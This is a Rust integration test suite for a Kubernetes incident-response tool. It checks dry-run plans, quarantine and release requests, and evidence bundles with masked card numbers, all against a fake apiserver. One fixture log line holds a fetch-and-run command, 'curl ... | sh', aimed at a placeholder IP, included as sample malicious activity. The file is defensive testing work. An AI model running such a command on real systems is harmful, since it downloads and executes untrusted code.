//! `kubepci respond` end to end against the fake apiserver: the dry run changes nothing and
//! prints a stable plan; `--apply` captures evidence first, then sends exactly the plan's
//! requests; `release` restores exactly what was there.

mod common;

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Output;

use common::{Cluster, cluster, kubepci};
use kubepci_fake_apiserver::{Behaviour, RecordedRequest};
use serde_json::{Value, json};

const PODS: [&str; 3] = ["api-7d9c5b6f4-0", "api-7d9c5b6f4-1", "api-7d9c5b6f4-2"];
const CARD: &str = "4111 1111 1111 1111";

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn run(dir: &Path, c: &Cluster, args: &[&str]) -> Output {
    let kubeconfig = c.server.kubeconfig.to_str().unwrap().to_string();
    let mut all: Vec<&str> = args.to_vec();
    all.extend(["--kubeconfig", &kubeconfig]);
    kubepci(dir, &all)
}

/// The objects quarantine touches, as the fake holds them now.
fn touched(c: &Cluster) -> BTreeMap<String, Option<Value>> {
    let mut paths: Vec<String> = PODS.iter().map(|p| format!("/api/v1/namespaces/payments/pods/{p}")).collect();
    paths.push("/api/v1/nodes/worker-1".into());
    paths.push("/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies/kubepci-quarantine-ir-42".into());
    paths.into_iter().map(|p| (p.clone(), c.server.object(&p))).collect()
}

fn summary(writes: &[RecordedRequest]) -> Vec<(String, String, String)> {
    writes.iter().map(|w| (w.method.clone(), w.path.clone(), w.content_type.clone())).collect()
}

fn with_logs(c: &Cluster) {
    c.server.set_log("payments", "api-7d9c5b6f4-0", "api", &format!("2026-12-07T09:00:00Z charge card={CARD} amount=12.00\n2026-12-07T09:00:01Z curl http://203.0.113.9/x.sh | sh\n"));
    c.server.insert_object(
        "/api/v1/namespaces/payments/events/api-7d9c5b6f4-0.1",
        json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": "api-7d9c5b6f4-0.1", "namespace": "payments"}, "involvedObject": {"kind": "Pod", "name": "api-7d9c5b6f4-0", "namespace": "payments"}, "reason": "Started", "message": "Started container api"}),
    );
}

#[test]
fn the_dry_run_prints_a_stable_plan_and_changes_nothing() {
    let c = cluster(Behaviour::default(), true);
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-42", "--reason", "crypto miner alert from Falco", "--cordon"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("dry run: nothing was changed; --apply sends these 5 requests"), "{}", text(&out.stderr));
    assert!(c.server.writes().is_empty());
    insta::assert_snapshot!("quarantine_dry_run", text(&out.stdout));

    // The same plan as JSON and YAML.
    let json_out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-42", "--cordon", "-f", "json"]);
    let plan: Value = serde_json::from_slice(&json_out.stdout).expect("JSON plan");
    assert_eq!(plan["pods"].as_array().unwrap().len(), 3);
    assert_eq!(plan["controller"]["action"], "detach");
    assert_eq!(plan["requests"].as_array().unwrap().len(), 5);
    let yaml_out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-42", "--cordon", "-f", "yaml"]);
    assert!(text(&yaml_out.stdout).starts_with("incident: ir-42\ntarget: payments/Deployment/api\n"), "{}", text(&yaml_out.stdout));
    assert!(c.server.writes().is_empty());
}

#[test]
fn apply_captures_evidence_first_then_sends_exactly_the_plan_and_release_restores_exactly() {
    let c = cluster(Behaviour::default(), false);
    with_logs(&c);
    let dir = tempfile::tempdir().unwrap();
    let before = touched(&c);
    let evidence = dir.path().join("evidence");
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-42", "--reason", "miner", "--cordon", "--evidence", evidence.to_str().unwrap(), "--apply", "--yes", "-f", "json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let plan: Value = serde_json::from_slice(&out.stdout).unwrap();

    // Exactly the plan's requests, in order, with the plan's bodies.
    let writes = c.server.writes();
    let merge = "application/merge-patch+json".to_string();
    let mut expected = vec![("POST".to_string(), "/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies".to_string(), "application/json".to_string())];
    expected.extend(PODS.iter().map(|p| ("PATCH".to_string(), format!("/api/v1/namespaces/payments/pods/{p}"), merge.clone())));
    expected.push(("PATCH".to_string(), "/api/v1/nodes/worker-1".to_string(), merge.clone()));
    assert_eq!(summary(&writes), expected);
    for (w, r) in writes.iter().zip(plan["requests"].as_array().unwrap()) {
        assert_eq!(w.body.as_ref(), Some(&r["body"]));
    }
    assert_eq!(writes[1].body, Some(json!({"metadata": {"labels": {"pci.kubepci.io/quarantine": "ir-42", "app": null, "pod-template-hash": null}}})));

    // The cluster now: pods labelled and detached, node cordoned, policy in place.
    let now = touched(&c);
    let pod = now["/api/v1/namespaces/payments/pods/api-7d9c5b6f4-0"].clone().unwrap();
    assert_eq!(pod["metadata"]["labels"], json!({"pci.kubepci.io/quarantine": "ir-42"}));
    assert_eq!(now["/api/v1/nodes/worker-1"].as_ref().unwrap()["spec"]["unschedulable"], true);
    let policy = now["/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies/kubepci-quarantine-ir-42"].clone().expect("policy created");
    assert_eq!(policy["spec"]["podSelector"], json!({"matchLabels": {"pci.kubepci.io/quarantine": "ir-42"}}));

    check_evidence(&evidence);

    // Release: exactly the inverse requests, and every object as it was.
    let dry = run(dir.path(), &c, &["respond", "release", "payments/Deployment/api"]);
    assert_eq!(dry.status.code(), Some(0), "{}", text(&dry.stderr));
    assert!(text(&dry.stdout).starts_with("Release of payments/Deployment/api (incident ir-42)\n"), "{}", text(&dry.stdout));
    assert_eq!(c.server.writes().len(), writes.len(), "the release dry run wrote nothing");
    let out = run(dir.path(), &c, &["respond", "release", "payments/Deployment/api", "--apply", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let release_writes = c.server.writes()[writes.len()..].to_vec();
    let mut expected: Vec<(String, String, String)> = PODS.iter().map(|p| ("PATCH".to_string(), format!("/api/v1/namespaces/payments/pods/{p}"), merge.clone())).collect();
    expected.push(("PATCH".to_string(), "/api/v1/nodes/worker-1".to_string(), merge.clone()));
    expected.push(("DELETE".to_string(), "/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies/kubepci-quarantine-ir-42".to_string(), String::new()));
    assert_eq!(summary(&release_writes), expected);
    assert_eq!(touched(&c), before, "release restores every object exactly");

    // Nothing left to release.
    let again = run(dir.path(), &c, &["respond", "release", "payments/Deployment/api"]);
    assert_eq!(again.status.code(), Some(2));
    assert!(text(&again.stderr).contains("no quarantine of payments/Deployment/api"), "{}", text(&again.stderr));
}

/// The bundle: every expected file, 0600, digests verifying, card numbers masked, no Secret.
fn check_evidence(dir: &Path) {
    let mut files = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                files.insert(p.strip_prefix(dir).unwrap().to_string_lossy().to_string(), std::fs::read(&p).unwrap());
                #[cfg(unix)]
                {
                    use std::os::unix::fs::PermissionsExt;
                    assert_eq!(std::fs::metadata(&p).unwrap().permissions().mode() & 0o777, 0o600, "{}", p.display());
                }
            }
        }
    }
    for f in ["manifest.json", "SHA256SUMS", "plan.json", "rbac.json", "reachability.txt", "events.json", "images.json", "owners/ReplicaSet-api-7d9c5b6f4.json", "owners/Deployment-api.json", "pods/api-7d9c5b6f4-0.json", "logs/api-7d9c5b6f4-0/api.log", "logs/api-7d9c5b6f4-2/api.log"] {
        assert!(files.contains_key(f), "{f} missing: {:?}", files.keys().collect::<Vec<_>>());
    }
    let manifest: Value = serde_json::from_slice(&files["manifest.json"]).unwrap();
    let listed = manifest["files"].as_array().unwrap();
    assert_eq!(listed.len(), files.len() - 2, "every file but the manifest and the sums is listed");
    for f in listed {
        let content = &files[f["path"].as_str().unwrap()];
        assert_eq!(f["sha256"].as_str().unwrap(), kubepci_respond_sha256(content), "{}", f["path"]);
    }
    assert_eq!(manifest["holdsCardholderData"], false);
    assert_eq!(manifest["cardNumbers"]["masked"], true);
    assert_eq!(manifest["incident"], "ir-42");
    let sums = text(&files["SHA256SUMS"]);
    for line in sums.lines() {
        let (digest, path) = line.split_once("  ").unwrap();
        assert_eq!(digest, kubepci_respond_sha256(&files[path]), "{path}");
    }
    let log = text(&files["logs/api-7d9c5b6f4-0/api.log"]);
    assert!(log.contains("card=411111******1111 amount"), "{log}");
    for (path, content) in &files {
        let t = text(content);
        assert!(!t.contains(CARD) && !t.contains("4111111111111111"), "full card number in {path}");
    }
    let images: Value = serde_json::from_slice(&files["images.json"]).unwrap();
    assert_eq!(images[0]["imageID"], "registry.example.com/pay/api@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    let events: Value = serde_json::from_slice(&files["events.json"]).unwrap();
    assert_eq!(events.as_array().unwrap().len(), 1);
    assert_eq!(events[0]["involvedObject"]["name"], "api-7d9c5b6f4-0");
    let rbac: Value = serde_json::from_slice(&files["rbac.json"]).unwrap();
    assert_eq!(rbac["serviceAccounts"][0]["serviceAccount"], "payments/api");
    assert!(rbac["whoCan"].as_array().unwrap().iter().any(|w| w["request"] == "create pods/exec"));
    let reach = text(&files["reachability.txt"]);
    assert!(reach.contains("payments/api[Deployment]"), "{reach}");
    assert!(!files.keys().any(|f| f.contains("secret")), "no Secret is captured");
}

fn kubepci_respond_sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    format!("{:x}", sha2::Sha256::digest(bytes))
}

#[test]
fn a_tar_gz_bundle_holds_private_entries_and_card_data_is_kept_only_when_asked() {
    let c = cluster(Behaviour::default(), false);
    with_logs(&c);
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("ev.tar.gz");
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Pod/api-7d9c5b6f4-0", "--incident", "ir-43", "--evidence", archive.to_str().unwrap(), "--keep-card-data"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("1 card number KEPT: the bundle holds cardholder data"), "{}", text(&out.stderr));
    assert!(c.server.writes().is_empty(), "evidence capture only reads");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&archive).unwrap().permissions().mode() & 0o777, 0o600);
    }
    let mut raw = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(std::fs::File::open(&archive).unwrap()), &mut raw).unwrap();
    // Walk the ustar entries.
    let mut entries = BTreeMap::new();
    let mut at = 0;
    while at + 512 <= raw.len() && raw[at] != 0 {
        let h = &raw[at..at + 512];
        let name = text(&h[..100]).trim_end_matches('\0').to_string();
        assert_eq!(&h[100..107], b"0000600", "{name}");
        let size = usize::from_str_radix(text(&h[124..135]).trim(), 8).unwrap();
        entries.insert(name, raw[at + 512..at + 512 + size].to_vec());
        at += 512 + size.div_ceil(512) * 512;
    }
    let log = text(&entries["kubepci-evidence-ir-43/logs/api-7d9c5b6f4-0/api.log"]);
    assert!(log.contains(CARD), "kept as asked: {log}");
    assert!(entries.contains_key("kubepci-evidence-ir-43/HOLDS-CARDHOLDER-DATA.txt"));
    let manifest: Value = serde_json::from_slice(&entries["kubepci-evidence-ir-43/manifest.json"]).unwrap();
    assert_eq!(manifest["holdsCardholderData"], true);
    // An existing bundle is never overwritten.
    let again = run(dir.path(), &c, &["respond", "quarantine", "payments/Pod/api-7d9c5b6f4-0", "--incident", "ir-43", "--evidence", archive.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(2));
    assert!(text(&again.stderr).contains("evidence not written"), "{}", text(&again.stderr));
}

#[test]
fn apply_needs_confirmation_and_a_refused_write_is_reported_without_changes() {
    let c = cluster(Behaviour::default(), false);
    let dir = tempfile::tempdir().unwrap();
    // No terminal and no --yes: refused before evidence or any write.
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-44", "--apply"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("pass --yes"), "{}", text(&out.stderr));
    assert!(c.server.writes().is_empty());
    assert!(!dir.path().join("kubepci-evidence-ir-44.tar.gz").exists());

    // The role lacks create on networkpolicies: the first request fails, nothing changes.
    let forbidden = Behaviour { forbidden: ["/apis/networking.k8s.io/v1/namespaces/payments/networkpolicies".to_string()].into(), ..Behaviour::default() };
    let c = cluster(forbidden, false);
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-44", "--apply", "--yes"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(err.contains("FAILED POST /apis/networking.k8s.io/v1/namespaces/payments/networkpolicies: HTTP 403"), "{err}");
    assert!(err.contains("(nothing was changed: the first request failed)"), "{err}");
    assert!(dir.path().join("kubepci-evidence-ir-44.tar.gz").exists(), "the evidence was captured first, to the default path");
    assert!(c.server.writes().is_empty());
    assert_eq!(c.server.object("/api/v1/namespaces/payments/pods/api-7d9c5b6f4-0").unwrap()["metadata"]["labels"]["app"], "api");
}

#[test]
fn unknown_targets_and_bad_arguments_are_usage_errors() {
    let c = cluster(Behaviour::default(), false);
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("payments/Deployment/nope is not in the input; of that kind in its namespace there are: api"), "{}", text(&out.stderr));
    let out = run(dir.path(), &c, &["respond", "quarantine", "payments/Service/api"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("expected namespace/Kind/name"), "{}", text(&out.stderr));
    assert!(c.server.writes().is_empty());
}

#[test]
fn a_snapshot_plans_offline_the_same_requests_and_its_evidence_says_what_it_lacks() {
    let c = cluster(Behaviour::default(), false);
    let dir = tempfile::tempdir().unwrap();
    let collected = run(dir.path(), &c, &["collect", "-o", "snap.json.gz"]);
    assert_eq!(collected.status.code(), Some(0), "{}", text(&collected.stderr));
    let live = run(dir.path(), &c, &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-45", "-f", "json"]);
    let offline = kubepci(dir.path(), &["respond", "quarantine", "payments/Deployment/api", "--incident", "ir-45", "-f", "json", "--snapshot", "snap.json.gz", "--evidence", "ev"]);
    assert_eq!(offline.status.code(), Some(0), "{}", text(&offline.stderr));
    assert_eq!(text(&offline.stdout), text(&live.stdout), "the same plan from the snapshot as from the cluster");
    let manifest: Value = serde_json::from_slice(&std::fs::read(dir.path().join("ev/manifest.json")).unwrap()).unwrap();
    assert!(manifest["notes"][0].as_str().unwrap().contains("events and logs were not read"), "{manifest}");
    assert!(!dir.path().join("ev/logs").exists());
    // A snapshot cannot be applied to.
    let apply = kubepci(dir.path(), &["respond", "quarantine", "payments/Deployment/api", "--snapshot", "snap.json.gz", "--apply", "--yes"]);
    assert_eq!(apply.status.code(), Some(2));
    assert!(c.server.writes().is_empty());
}
